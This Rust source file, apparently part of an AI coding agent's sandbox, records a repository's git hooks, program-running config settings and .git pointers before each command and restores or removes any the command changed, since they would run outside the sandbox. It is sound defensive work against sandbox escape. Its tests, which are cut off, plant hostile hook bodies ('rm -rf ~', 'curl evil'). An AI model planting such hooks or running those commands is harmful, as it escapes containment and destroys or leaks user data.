//! git's runners in the project, kept as they were across every command (the hardline's
//! `git-hooks` entry and `git config`'s settings that run a program, permission/programs.json):
//! the kernel's sandbox lets a command write anywhere in the project, `.git/` included, and a
//! hook or a `core.fsmonitor` written there would run at the person's next `git commit` or
//! `git status`, outside any sandbox. So before a command the runners of its repository — and
//! of the repositories kept inside it, its submodules' (`.git/modules/…`) — are read: their
//! hooks, and the settings that run a program of their `config` and `config.worktree` files
//! (and each worktree's). After it, a hook it added, changed or removed is put back as it was,
//! a config whose running settings it changed is written back whole (or removed, if it was not
//! there), a submodule's repository it made has its hooks and running settings taken out, and a
//! `.git` it turned into a pointer elsewhere (`gitdir: …`) or pointed elsewhere is put back or
//! taken away. What was put back is said to the model.

use crate::pinned_folder::PinnedFolder;
use lembas_rules::permission::wildcard;
use lembas_rules::spec::spec;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// The most bytes of hooks a guard keeps (past them a hook is known by its hash alone: one the
/// command changed is removed, never restored from a partial copy).
const HOOKS_MAX: usize = 4 << 20;

/// The most repositories a guard reads (the project's and its submodules'), and how deep it
/// looks for submodules' repositories inside `.git/modules`.
const REPOSITORIES_MAX: usize = 64;
const MODULES_DEPTH: usize = 8;

/// A project's git runners before a command.
#[derive(Debug, Default, Clone)]
pub struct GitGuard {
    /// The project's `.git` as it was: a folder, or a file's bytes.
    dot_git: Option<DotGit>,
    /// Its repository folder, and its submodules' inside it.
    repositories: Vec<Repository>,
    /// Where the repository folder is (`.git`, or where a `.git` file pointed).
    main: Option<PathBuf>,
    /// The repositories of the project's gitlinks as last read, by the index they were read
    /// from (read again only when the index changed).
    gitlinks: std::sync::Arc<std::sync::Mutex<Option<GitlinksRead>>>,
}

/// The repositories of the project's gitlinks, and the index they were read from.
#[derive(Debug)]
struct GitlinksRead {
    index: IndexStamp,
    folders: Vec<PathBuf>,
}

/// What tells one index file from another: its device, inode, size and time of change.
type IndexStamp = (u64, u64, u64, i64, i64);

/// The stamp of the index at `main/index`; none when there is none.
fn index_stamp(main: &Path) -> Option<IndexStamp> {
    use std::os::unix::fs::MetadataExt;
    let meta = std::fs::symlink_metadata(main.join("index")).ok()?;
    Some((
        meta.dev(),
        meta.ino(),
        meta.size(),
        meta.mtime(),
        meta.mtime_nsec(),
    ))
}

/// The repositories kept inside the work tree that the index names as gitlinks (`git init sub;
/// git add sub`): `git status` in the project enters each and runs its `core.fsmonitor` and the
/// like. Read by `git ls-files --stage` from `/`, with the repository named, the monitor off.
fn gitlink_repositories(root: &Path, main: &Path) -> Vec<PathBuf> {
    let args: Vec<&std::ffi::OsStr> = vec![
        "-c".as_ref(),
        "core.fsmonitor=false".as_ref(),
        "--git-dir".as_ref(),
        main.as_os_str(),
        "--work-tree".as_ref(),
        root.as_os_str(),
        "ls-files".as_ref(),
        "--stage".as_ref(),
        "-z".as_ref(),
    ];
    let Some(out) = run_git(&args, None) else {
        return Vec::new();
    };
    out.split(|b| *b == 0)
        .filter(|entry| entry.starts_with(b"160000 "))
        .filter_map(|entry| {
            let at = entry.iter().position(|b| *b == b'\t')?;
            let path = std::str::from_utf8(entry.get(at + 1..)?).ok()?;
            let folder = root.join(path).join(".git");
            std::fs::symlink_metadata(&folder)
                .is_ok_and(|m| m.is_dir())
                .then_some(folder)
        })
        .take(REPOSITORIES_MAX)
        .collect()
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum DotGit {
    Folder,
    File(Vec<u8>),
    /// A symbolic link (git follows it to wherever it leads).
    Link,
}

/// One repository folder's runners.
#[derive(Debug, Clone)]
struct Repository {
    folder: PathBuf,
    /// It was a link before the command (the person's own: left as it is).
    was_link: bool,
    /// Its hooks folder, and the one its `core.hooksPath` names inside the project.
    hooks: Vec<Hooks>,
    configs: Vec<Config>,
    /// The files that say where the rest of the repository is (see [`POINTERS`]), as they were.
    pointers: Vec<(PathBuf, Option<Vec<u8>>)>,
}

/// Files of a repository folder that send git elsewhere for its config and hooks: `commondir`
/// (a linked worktree's, or one written to point at a repository made to order).
const POINTERS: &[&str] = &["commondir"];

#[derive(Debug, Clone)]
struct Hooks {
    folder: PathBuf,
    files: BTreeMap<std::ffi::OsString, HookFile>,
}

/// A file of the hooks folder: what it holds, told by a hash, and its bytes while the guard
/// keeps no more than [`HOOKS_MAX`] in all (one past that, or unreadable, is known by its hash
/// alone: changed, it is removed, as it cannot be put back).
#[derive(Debug, Clone, PartialEq, Eq)]
struct HookFile {
    hash: u64,
    bytes: Option<Vec<u8>>,
    /// Its permission bits (a hook git runs is executable: one made not executable is changed).
    mode: u32,
}

/// A config file as it was: its bytes (none when it was not there) and running settings.
#[derive(Debug, Clone)]
struct Config {
    file: PathBuf,
    bytes: Option<Vec<u8>>,
    running: Vec<String>,
    was_link: bool,
}

/// The project's `.git`: a folder, or a file.
fn dot_git(root: &Path) -> Option<DotGit> {
    let dot_git = root.join(".git");
    let meta = std::fs::symlink_metadata(&dot_git).ok()?;
    if meta.file_type().is_symlink() {
        return Some(DotGit::Link);
    }
    if meta.is_dir() {
        return Some(DotGit::Folder);
    }
    read_regular(&dot_git).map(DotGit::File)
}

/// The repository folder of `root`: `.git`, or where a `.git` file's `gitdir:` points.
fn git_dir(root: &Path) -> Option<PathBuf> {
    let dot_git = root.join(".git");
    let meta = std::fs::symlink_metadata(&dot_git).ok()?;
    if meta.is_dir() {
        return Some(dot_git);
    }
    let text = std::fs::read_to_string(&dot_git).ok()?;
    let target = text.lines().next()?.strip_prefix("gitdir:")?.trim();
    Some(root.join(target))
}

/// The repository folders of `main` and of the submodules kept in it (`modules/NAME`, a name
/// of several folders too, nested ones in theirs), each known by its `HEAD`.
fn repositories(main: &Path) -> Vec<PathBuf> {
    fn modules(folder: &Path, depth: usize, out: &mut Vec<PathBuf>) {
        if depth == 0 || out.len() >= REPOSITORIES_MAX {
            return;
        }
        let Ok(entries) = std::fs::read_dir(folder) else {
            return;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            let kind = entry.file_type();
            if out.len() >= REPOSITORIES_MAX {
                continue;
            }
            // A link may lead git to a repository anywhere: one of them, not followed.
            if kind.as_ref().is_ok_and(|t| t.is_symlink()) {
                out.push(path);
                continue;
            }
            if !kind.is_ok_and(|t| t.is_dir()) {
                continue;
            }
            if path.join("HEAD").is_file() {
                out.push(path.clone());
                modules(&path.join("modules"), depth - 1, out);
            } else {
                modules(&path, depth - 1, out);
            }
        }
    }
    let mut out = vec![main.to_path_buf()];
    modules(&main.join("modules"), MODULES_DEPTH, &mut out);
    out
}

/// The config files of a repository folder git reads: `config`, `config.worktree`, and each
/// worktree's `config.worktree`.
fn config_files(folder: &Path) -> Vec<PathBuf> {
    let mut out = vec![folder.join("config"), folder.join("config.worktree")];
    if let Ok(entries) = std::fs::read_dir(folder.join("worktrees")) {
        for entry in entries.flatten().take(REPOSITORIES_MAX) {
            out.push(entry.path().join("config.worktree"));
        }
    }
    out
}

/// git config's keys that run a program or make git run one, as `permission/programs.json`
/// lists them: every key `git config` may set that runs code (`runs_operands`, for what a
/// command changed), or only those whose value is a program (`config_lines`,
/// `config_unreadable`: for a repository the command made, whose ordinary `core.*` stay).
fn running_keys(only_programs: bool) -> Vec<&'static str> {
    let Some(git) = spec()
        .programs
        .programs
        .get("git")
        .and_then(|p| p.effects.as_ref())
    else {
        return Vec::new();
    };
    if only_programs {
        git.config_lines
            .iter()
            .chain(git.config_unreadable.iter())
            .map(|k| k.as_ref())
            .collect()
    } else {
        git.subcommands
            .get("config")
            .map(|c| c.runs_operands.iter().map(|k| k.as_ref()).collect())
            .unwrap_or_default()
    }
}

/// How long a `git config` of the guard may take: one that does not end (a config it reads made
/// a pipe) is killed, and its answer is none.
const GIT_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(5);

/// Runs `git ARGS` for the guard: from `/` (so that git looks for no repository, whose files a
/// command may have made pipes that block it), reading no system or global config, given
/// `input` on its standard input, killed after [`GIT_TIMEOUT`]. Its output when it ended well.
fn run_git(args: &[&std::ffi::OsStr], input: Option<Vec<u8>>) -> Option<Vec<u8>> {
    use std::io::{Read, Write};
    use std::process::Stdio;
    let mut child = std::process::Command::new("git")
        .args(args)
        .current_dir("/")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CEILING_DIRECTORIES", "/")
        .stdin(if input.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        })
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .ok()?;
    // Written and read by threads of their own, so that neither pipe fills while the other waits.
    let writer = child.stdin.take().zip(input).map(|(mut stdin, bytes)| {
        std::thread::spawn(move || {
            let _ = stdin.write_all(&bytes);
        })
    });
    let reader = child.stdout.take().map(|mut stdout| {
        std::thread::spawn(move || {
            let mut out = Vec::new();
            let _ = stdout.read_to_end(&mut out);
            out
        })
    });
    let started = std::time::Instant::now();
    let status = loop {
        match child.try_wait() {
            Ok(Some(status)) => break Some(status),
            Ok(None) if started.elapsed() < GIT_TIMEOUT => {
                std::thread::sleep(std::time::Duration::from_millis(2));
            }
            _ => {
                let _ = child.kill();
                let _ = child.wait();
                break None;
            }
        }
    };
    if let Some(writer) = writer {
        let _ = writer.join();
    }
    let out = reader.and_then(|r| r.join().ok()).unwrap_or_default();
    status.filter(|s| s.success()).map(|_| out)
}

/// The settings of a config file's bytes whose keys match `keys`, as `key\nvalue` entries (git's
/// own reading, `git config --file - --list`, which runs nothing and follows no include). None
/// when git cannot read them.
fn settings_in(bytes: Vec<u8>, keys: &[&str]) -> Option<Vec<String>> {
    let args: Vec<&std::ffi::OsStr> =
        ["config", "--no-includes", "--null", "--list", "--file", "-"]
            .iter()
            .map(std::ffi::OsStr::new)
            .collect();
    let out = run_git(&args, Some(bytes))?;
    let mut running: Vec<String> = String::from_utf8_lossy(&out)
        .split('\0')
        .filter(|entry| {
            let key = entry.split('\n').next().unwrap_or("").to_lowercase();
            !key.is_empty()
                && keys
                    .iter()
                    .any(|p| wildcard::matches(&p.to_lowercase(), &key))
        })
        .map(str::to_string)
        .collect();
    running.sort();
    Some(running)
}

/// The settings of a config file (a regular file, read as [`read_regular`] reads it) whose keys
/// match `keys`; none when it is no regular file or git cannot read it.
fn settings_of(file: &Path, keys: &[&str]) -> Option<Vec<String>> {
    settings_in(read_regular(file)?, keys)
}

/// The settings of a config file that run a program (see [`running_keys`]).
fn running_settings(file: &Path) -> Option<Vec<String>> {
    settings_of(file, &running_keys(false))
}

/// Whether `path` is a symbolic link (not followed).
fn is_link(path: &Path) -> bool {
    std::fs::symlink_metadata(path).is_ok_and(|m| m.file_type().is_symlink())
}

/// The bytes of `path` when it is a regular file (never through a link, never a pipe or a
/// device, which could block the guard or never end): opened without following a link and
/// without waiting on a pipe, then asked what it is — a file swapped for a pipe after a look at
/// its name is never read.
fn read_regular(path: &Path) -> Option<Vec<u8>> {
    use std::io::Read;
    use std::os::unix::fs::OpenOptionsExt;
    let mut file = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
        .open(path)
        .ok()?;
    if !file.metadata().ok()?.file_type().is_file() {
        return None;
    }
    let mut bytes = Vec::new();
    file.read_to_end(&mut bytes).ok()?;
    Some(bytes)
}

/// What is at `path`: nothing (`Ok(None)`), a regular file's bytes, or something else (`Err`: a
/// link, a pipe, a folder, a device).
fn regular_or_nothing(path: &Path) -> Result<Option<Vec<u8>>, ()> {
    match std::fs::symlink_metadata(path) {
        Err(_) => Ok(None),
        Ok(_) => read_regular(path).map(Some).ok_or(()),
    }
}

/// Gives a folder its owner's permission to list and enter it back (a command may have taken it
/// away so that a hook put in it could not be seen). Never through a link.
fn listable(folder: &Path) {
    use std::os::unix::fs::PermissionsExt;
    if let Ok(meta) = std::fs::symlink_metadata(folder) {
        if meta.is_dir() && meta.permissions().mode() & 0o500 != 0o500 {
            let mode = meta.permissions().mode() | 0o700;
            let _ = std::fs::set_permissions(folder, std::fs::Permissions::from_mode(mode));
        }
    }
}

/// Gives the folder holding `path` back its owner's write permission (a command may have taken
/// it away so that nothing could be put back).
fn writable_folder_of(path: &Path) {
    use std::os::unix::fs::PermissionsExt;
    if let Some(folder) = path.parent() {
        // A folder held open is reached through its `/proc/self/fd` link.
        let meta = if folder.starts_with("/proc/self/fd") {
            std::fs::metadata(folder)
        } else {
            std::fs::symlink_metadata(folder)
        };
        if let Ok(meta) = meta {
            if meta.is_dir() {
                let mode = meta.permissions().mode() | 0o700;
                let _ = std::fs::set_permissions(folder, std::fs::Permissions::from_mode(mode));
            }
        }
    }
}

/// Writes `bytes` as the regular file `path` with the permissions `mode`: what was there (a link,
/// a file made read-only, a pipe) removed first. The file is made anew, never opened through
/// what is there: a background process may put a link at `path` again between the removal and
/// the write (to have lembas write where the link leads), so a file found there is taken away
/// again, a few times at most. Whether it was written.
fn put(path: &Path, bytes: &[u8], mode: u32) -> bool {
    use std::io::Write;
    use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
    for _ in 0..PUT_TRIES {
        if std::fs::symlink_metadata(path).is_ok() && !take_away(path) {
            return false;
        }
        let made = || {
            std::fs::OpenOptions::new()
                .write(true)
                .create_new(true)
                .custom_flags(libc::O_NOFOLLOW)
                .mode(mode)
                .open(path)
        };
        let file = made().or_else(|e| {
            if e.kind() == std::io::ErrorKind::AlreadyExists {
                return Err(e);
            }
            writable_folder_of(path);
            made()
        });
        match file {
            Ok(mut file) => {
                // The mode as it was, whatever the umask takes from a new file.
                return file.write_all(bytes).is_ok()
                    && file
                        .set_permissions(std::fs::Permissions::from_mode(mode))
                        .is_ok();
            }
            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => continue,
            Err(_) => return false,
        }
    }
    false
}

/// How many times [`put`] takes away what it finds at a path before it gives up.
const PUT_TRIES: usize = 8;

/// The permissions a config or pointer file is put back with.
const FILE_MODE: u32 = 0o644;

/// Removes the file at `path` (a link, not what it leads to). Where it cannot (its folder made
/// read-only and not given back), it is made not executable, so git does not run it as a hook.
/// Whether it is gone.
fn take_away(path: &Path) -> bool {
    use std::os::unix::fs::PermissionsExt;
    if std::fs::remove_file(path).is_ok() {
        return true;
    }
    // A folder made in a file's place (a hook's): taken away whole, no link in it followed.
    if std::fs::symlink_metadata(path).is_ok_and(|meta| meta.is_dir()) {
        listable(path);
        if std::fs::remove_dir_all(path).is_ok() {
            return true;
        }
    }
    writable_folder_of(path);
    if std::fs::remove_file(path).is_ok() {
        return true;
    }
    if !is_link(path) {
        let _ = std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600));
    }
    false
}

/// The files of a hooks folder (a folder in it is no hook: git runs files), none when it is
/// not there.
fn read_hooks(folder: &Path) -> BTreeMap<std::ffi::OsString, HookFile> {
    use std::hash::{Hash, Hasher};
    let mut files = BTreeMap::new();
    let mut total = 0;
    let Ok(entries) = std::fs::read_dir(folder) else {
        return files;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        let Ok(meta) = std::fs::symlink_metadata(&path) else {
            continue;
        };
        if meta.is_dir() {
            continue;
        }
        // A link or a pipe is known by what it is and where it leads, never read through.
        let read = read_regular(&path);
        let mode = std::os::unix::fs::PermissionsExt::mode(&meta.permissions()) & 0o777;
        let mut hasher = std::collections::hash_map::DefaultHasher::new();
        mode.hash(&mut hasher);
        match &read {
            Some(bytes) => bytes.hash(&mut hasher),
            None => {
                format!("{:?}", meta.file_type()).hash(&mut hasher);
                std::fs::read_link(&path).ok().hash(&mut hasher);
            }
        }
        let bytes = read.filter(|bytes| {
            total += bytes.len();
            total <= HOOKS_MAX
        });
        files.insert(
            entry.file_name(),
            HookFile {
                hash: hasher.finish(),
                bytes,
                mode,
            },
        );
    }
    files
}

impl Repository {
    fn read(folder: PathBuf) -> Repository {
        let hooks_folder = folder.join("hooks");
        let hooks = vec![Hooks {
            files: read_hooks(&hooks_folder),
            folder: hooks_folder,
        }];
        let pointers = POINTERS
            .iter()
            .map(|name| {
                let file = folder.join(name);
                let bytes = read_regular(&file);
                (file, bytes)
            })
            .collect();
        let configs = config_files(&folder)
            .into_iter()
            .filter_map(|file| {
                let was_link = is_link(&file);
                match read_regular(&file) {
                    Some(bytes) => running_settings(&file).map(|running| Config {
                        file,
                        bytes: Some(bytes),
                        running,
                        was_link,
                    }),
                    None => Some(Config {
                        file,
                        bytes: None,
                        running: Vec::new(),
                        was_link,
                    }),
                }
            })
            .collect();
        Repository {
            was_link: is_link(&folder),
            folder,
            hooks,
            configs,
            pointers,
        }
    }

    /// What the command changed of this repository's runners, put back; a sentence for each,
    /// and the paths that could not be put back in `failed`.
    fn put_back(&self, root: &Path, said: &mut Vec<String>, failed: &mut Vec<PathBuf>) {
        // A link put in its place leads git elsewhere: taken away (the guard writes through no
        // link, so nothing outside the project is written or removed for it).
        if self.was_link {
            return;
        }
        if is_link(&self.folder) {
            if !take_away(&self.folder) {
                failed.push(self.folder.clone());
            }
            said.push(format!(
                "the command put a link in place of {}, which would lead git to another \
                 repository's settings and hooks: lembas took it away",
                self.folder.display()
            ));
            return;
        }
        // Moved or deleted by the command: nothing of it is left to run.
        if !self.folder.is_dir() {
            return;
        }
        for hooks in &self.hooks {
            if is_link(&hooks.folder) {
                if !take_away(&hooks.folder) {
                    failed.push(hooks.folder.clone());
                }
                let _ = std::fs::create_dir(&hooks.folder);
            }
            // A folder the command made unlistable hides what it put there: listable again.
            listable(&hooks.folder);
            if hooks.folder.is_dir() && std::fs::read_dir(&hooks.folder).is_err() {
                failed.push(hooks.folder.clone());
                continue;
            }
            // Worked in as opened now, whatever its path leads to later (a process the command
            // left running may swap it for a link).
            let pinned = PinnedFolder::open(&hooks.folder, root);
            let Some(pinned) = &pinned else {
                // Swapped for a link, or gone: nothing is written or removed by its path. Gone,
                // nothing of it runs; the person's hooks it held are said to be lost.
                let gone = std::fs::symlink_metadata(&hooks.folder).is_err();
                if !(gone && hooks.files.is_empty()) {
                    failed.push(hooks.folder.clone());
                }
                continue;
            };
            let folder = pinned.path();
            let now = read_hooks(folder);
            let mut changed = false;
            for (name, file) in &now {
                let before = hooks.files.get(name);
                if before.map(|b| b.hash) == Some(file.hash) {
                    continue;
                }
                changed = true;
                let path = folder.join(name);
                let done = match before.and_then(|b| b.bytes.as_ref().map(|bytes| (bytes, b.mode)))
                {
                    Some((old, mode)) => put(&path, old, mode),
                    // New, or too large to keep: it cannot run if it is not there.
                    None => take_away(&path),
                };
                if !done {
                    failed.push(hooks.folder.join(name));
                }
            }
            for (name, old) in &hooks.files {
                if !now.contains_key(name) {
                    if let Some(bytes) = &old.bytes {
                        changed = true;
                        let path = folder.join(name);
                        if !put(&path, bytes, old.mode) {
                            failed.push(hooks.folder.join(name));
                        }
                    }
                }
            }
            if changed {
                said.push(format!(
                    "the command changed git's hooks ({}): they run at the person's next git \
                     command, outside any sandbox, so lembas put them back as they were",
                    hooks.folder.display()
                ));
            }
        }
        // The repository folder as opened now: its files are read and written there, whatever
        // its path leads to later (a process the command left running may swap it for a link).
        let Some(repository) = PinnedFolder::open(&self.folder, root) else {
            failed.push(self.folder.clone());
            return;
        };
        let within = |file: &Path| match file.strip_prefix(&self.folder) {
            Ok(rest) => repository.path().join(rest),
            Err(_) => file.to_path_buf(),
        };
        for (named, bytes) in &self.pointers {
            let file = &within(named);
            // A pipe or a folder in its place is a change too (git would block on a pipe).
            if regular_or_nothing(file).is_ok_and(|now| now == *bytes) {
                continue;
            }
            let done = match &bytes {
                Some(bytes) => put(file, bytes, FILE_MODE),
                None => std::fs::symlink_metadata(file).is_err() || take_away(file),
            };
            if !done {
                failed.push(named.clone());
            }
            said.push(format!(
                "the command changed {}, which sends git to another repository's settings and \
                 hooks: lembas put it back as it was",
                named.display()
            ));
        }
        for config in &self.configs {
            // A link made in its place may change later, outside the project: never kept.
            let linked = is_link(&config.file) && !config.was_link;
            let now = read_regular(&config.file);
            let there = std::fs::symlink_metadata(&config.file).is_ok();
            if now == config.bytes && !linked && (now.is_some() || !there) {
                continue;
            }
            let running_now = match (&now, there) {
                (Some(_), _) => running_settings(&config.file),
                (None, false) => Some(Vec::new()),
                // There, but no regular file: a pipe, a device, a folder.
                (None, true) => None,
            };
            if running_now.as_ref() == Some(&config.running) && !linked {
                continue;
            }
            let file = within(&config.file);
            let done = match &config.bytes {
                Some(bytes) => put(&file, bytes, FILE_MODE),
                None => take_away(&file),
            };
            if !done {
                failed.push(config.file.clone());
            }
            said.push(format!(
                "the command changed a setting of {} that runs a program: it would run at the \
                 person's next git command, outside any sandbox, so lembas put the file back \
                 as it was",
                config.file.display()
            ));
        }
    }
}

/// A repository folder the command made (a submodule's, in `.git/modules`): its hooks (but
/// git's inert `*.sample` files) removed, and its settings that name a program unset.
fn disarm(folder: &Path, root: &Path, said: &mut Vec<String>) {
    let mut changed = false;
    // Through no link: one in its place is taken away, not followed.
    for link in [folder.to_path_buf(), folder.join("hooks")] {
        if is_link(&link) {
            changed |= take_away(&link);
        }
    }
    // Worked in as opened now (as [`Repository::put_back`] does): a folder swapped for a link
    // meanwhile leads nothing elsewhere. One that is there but cannot be opened as it should be
    // is said.
    let Some(repository) = PinnedFolder::open(folder, root) else {
        if changed {
            said.push(took_out(folder));
        }
        if folder.is_dir() {
            said.push(format!(
                "lembas could not look into a repository the command made ({}): git may run \
                 its hooks or settings at the person's next git command — say so to the \
                 person, who should look at it before running git here",
                folder.display()
            ));
        }
        return;
    };
    let hooks = repository.path().join("hooks");
    listable(&hooks);
    let pinned_hooks = PinnedFolder::open(&folder.join("hooks"), root);
    if let Some(entries) = pinned_hooks
        .as_ref()
        .and_then(|hooks| std::fs::read_dir(hooks.path()).ok())
    {
        for entry in entries.flatten() {
            let name = entry.file_name();
            if name.to_string_lossy().ends_with(".sample") {
                continue;
            }
            let path = entry.path();
            // A folder among the hooks is no hook, and is left.
            if std::fs::symlink_metadata(&path).is_ok_and(|m| !m.is_dir()) && take_away(&path) {
                changed = true;
            }
        }
    }
    drop(repository);
    // Its configs by their paths: git, which unsets their settings, cannot be handed this
    // process's `/proc/self/fd` (lembas's own confinement keeps what a link could lead to there).
    let keys = running_keys(true);
    let files = if folder.is_dir() {
        config_files(folder)
    } else {
        Vec::new()
    };
    for file in files {
        // A link, a pipe or a device in a config's place: taken away, never read through.
        if regular_or_nothing(&file).is_err() {
            changed |= take_away(&file);
            continue;
        }
        for entry in settings_of(&file, &keys).unwrap_or_default() {
            let key = entry.split('\n').next().unwrap_or("");
            let unset = |file: &Path| {
                let args = [
                    std::ffi::OsStr::new("config"),
                    std::ffi::OsStr::new("--file"),
                    file.as_os_str(),
                    std::ffi::OsStr::new("--unset-all"),
                    std::ffi::OsStr::new(key),
                ];
                run_git(&args, None).is_some()
            };
            // git will not write a config whose lock file a command left (`config.lock`): the
            // lock taken away first; a config that still cannot be changed is taken away whole.
            let lock = file.with_extension(match file.extension() {
                Some(ext) => format!("{}.lock", ext.to_string_lossy()),
                None => "lock".into(),
            });
            let _ = take_away(&lock);
            changed |= unset(&file) || take_away(&file);
        }
    }
    if changed {
        said.push(took_out(folder));
    }
}

/// What is said of a repository the command made whose runners were taken out.
fn took_out(folder: &Path) -> String {
    format!(
        "the command made a repository ({}) with hooks or settings that run a program: they \
         would run at the person's next git command, outside any sandbox, so lembas took them \
         out",
        folder.display()
    )
}

impl GitGuard {
    /// The repositories of the project's gitlinks now: read again only when the index changed
    /// since they were last read.
    fn gitlinks(&self, root: &Path, main: &Path) -> Vec<PathBuf> {
        let stamp = index_stamp(main);
        let mut known = self
            .gitlinks
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner);
        if let (Some(stamp), Some(read)) = (stamp, known.as_ref()) {
            if stamp == read.index {
                return read.folders.clone();
            }
        }
        let folders = gitlink_repositories(root, main);
        *known = stamp.map(|index| GitlinksRead {
            index,
            folders: folders.clone(),
        });
        folders
    }

    /// Reads the runners of `root`'s repository, its submodules' and the repositories its
    /// gitlinks name in the work tree (nothing when it has none).
    pub fn before(root: &Path) -> GitGuard {
        let dot_git = dot_git(root);
        let Some(main) = git_dir(root) else {
            return GitGuard {
                dot_git,
                ..GitGuard::default()
            };
        };
        let gitlinks = gitlink_repositories(root, &main);
        let mut repositories: Vec<Repository> = repositories(&main)
            .into_iter()
            .chain(gitlinks.iter().cloned())
            .take(REPOSITORIES_MAX)
            .map(Repository::read)
            .collect();
        // A `core.hooksPath` the project's config already names, inside the project (husky's
        // `.husky/_`, often left out of git's view): its hooks are kept as `.git/hooks` are.
        let named = settings_of(&main.join("config"), &["core.hookspath"]).unwrap_or_default();
        if let (Some(first), Some(entry)) = (repositories.first_mut(), named.first()) {
            let value = entry.split_once('\n').map_or("", |(_, v)| v);
            let folder = root.join(value);
            // Inside by its real path, or — not there yet — by how it is written.
            let written_inside = !value.starts_with(['/', '~'])
                && !Path::new(value)
                    .components()
                    .any(|c| matches!(c, std::path::Component::ParentDir));
            let inside = match std::fs::canonicalize(&folder) {
                Ok(real) => std::fs::canonicalize(root).is_ok_and(|root| real.starts_with(root)),
                Err(_) => written_inside,
            };
            if !value.is_empty() && inside {
                // husky's `.husky/_` runs the hooks of the folder above it (`.husky/pre-commit`):
                // that folder is kept too.
                let above = (folder.file_name() == Some(std::ffi::OsStr::new("_")))
                    .then(|| folder.parent().map(Path::to_path_buf))
                    .flatten();
                first.hooks.push(Hooks {
                    files: read_hooks(&folder),
                    folder,
                });
                if let Some(above) = above {
                    first.hooks.push(Hooks {
                        files: read_hooks(&above),
                        folder: above,
                    });
                }
            }
        }
        let stamp = index_stamp(&main);
        GitGuard {
            dot_git,
            repositories,
            gitlinks: std::sync::Arc::new(std::sync::Mutex::new(stamp.map(|index| GitlinksRead {
                index,
                folders: gitlinks,
            }))),
            main: Some(main),
        }
    }

    /// After the command in `root`: what it changed of the runners put back; a sentence for
    /// each.
    pub fn after(self, root: &Path) -> Vec<String> {
        self.restore(root)
    }

    /// What changed of the runners since they were read put back, as [`GitGuard::after`] does,
    /// with the runners as they were kept: the guard can put them back again (while a command's
    /// background processes go on, [`Survivors`]).
    pub fn restore(&self, root: &Path) -> Vec<String> {
        let mut said = Vec::new();
        // `.git` turned into a pointer, or pointed elsewhere: put back, or taken away (a folder
        // moved elsewhere by the command stays where it is, unreached); a `.git` folder the
        // command made disarmed.
        let now = dot_git(root);
        let path = root.join(".git");
        match (&self.dot_git, &now) {
            (Some(DotGit::File(bytes)), None) => {
                let _ = put(&path, bytes, FILE_MODE);
            }
            (Some(DotGit::File(bytes)), Some(DotGit::File(changed))) if changed != bytes => {
                let _ = put(&path, bytes, FILE_MODE);
                said.push(format!(
                    "the command changed {}, which says where the repository is: lembas put \
                     it back as it was",
                    path.display()
                ));
            }
            (Some(DotGit::Folder | DotGit::Link) | None, Some(DotGit::File(_)))
            | (Some(DotGit::Folder | DotGit::File(_)) | None, Some(DotGit::Link)) => {
                let _ = take_away(&path);
                said.push(format!(
                    "the command made {} point to another repository, whose hooks and \
                     settings would run at the person's next git command, outside any sandbox: \
                     lembas took it away",
                    path.display()
                ));
            }
            // A repository the command made where there was none, or none in a folder.
            (Some(DotGit::File(_)) | None, Some(DotGit::Folder)) => disarm(&path, root, &mut said),
            _ => {}
        }
        let before: Vec<PathBuf> = self.repositories.iter().map(|r| r.folder.clone()).collect();
        let mut failed = Vec::new();
        for repository in &self.repositories {
            repository.put_back(root, &mut said, &mut failed);
        }
        if let Some(main) = &self.main {
            for folder in repositories(main)
                .into_iter()
                .chain(self.gitlinks(root, main))
            {
                if !before.contains(&folder) {
                    disarm(&folder, root, &mut said);
                }
            }
        }
        if !failed.is_empty() {
            let paths: Vec<String> = failed.iter().map(|p| p.display().to_string()).collect();
            said.push(format!(
                "lembas could not put back {}: git may run what the command left there at the \
                 person's next git command — say so to the person, who should look at them \
                 before running git here",
                paths.join(", ")
            ));
        }
        said
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn repo(name: &str) -> PathBuf {
        let root = std::env::temp_dir().join(format!("lembas-guard-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        std::fs::create_dir_all(&root).unwrap();
        let ok = std::process::Command::new("git")
            .args(["init", "-q"])
            .current_dir(&root)
            .status()
            .unwrap()
            .success();
        assert!(ok);
        root
    }

    #[test]
    fn a_hook_a_command_adds_or_changes_is_put_back() {
        let root = repo("hooks");
        let hooks = root.join(".git/hooks");
        std::fs::write(hooks.join("pre-push"), "#!/bin/sh\nexit 0\n").unwrap();
        let guard = GitGuard::before(&root);
        std::fs::write(hooks.join("pre-commit"), "#!/bin/sh\nrm -rf ~\n").unwrap();
        std::fs::write(hooks.join("pre-push"), "#!/bin/sh\ncurl evil\n").unwrap();
        let said = guard.after(&root);
        assert_eq!(said.len(), 1, "{said:?}");
        assert!(!hooks.join("pre-commit").exists());
        assert_eq!(
            std::fs::read_to_string(hooks.join("pre-push")).unwrap(),
            "#!/bin/sh\nexit 0\n"
        );
        // Nothing changed: nothing said.
        assert!(GitGuard::before(&root).after(&root).is_empty());
        let _ = std::fs::remove_dir_all(&root);
    }

    #[test]
    fn a_hook_is_put_back_with_its_mode_and_a_mode_taken_away_is_a_change() {
        use std::os::unix::fs::PermissionsExt;
        let root = repo("hook-mode");
        let hook = root.join(".git/hooks/pre-commit");
        std::fs::write(&hook, "#!/bin/sh\n./scan-for-secrets\n").unwrap();
        std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
        let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
        // Changed: put back executable, as the person had it (git ignores a hook that is not).
        let guard = GitGuard::before(&root);
        std::fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
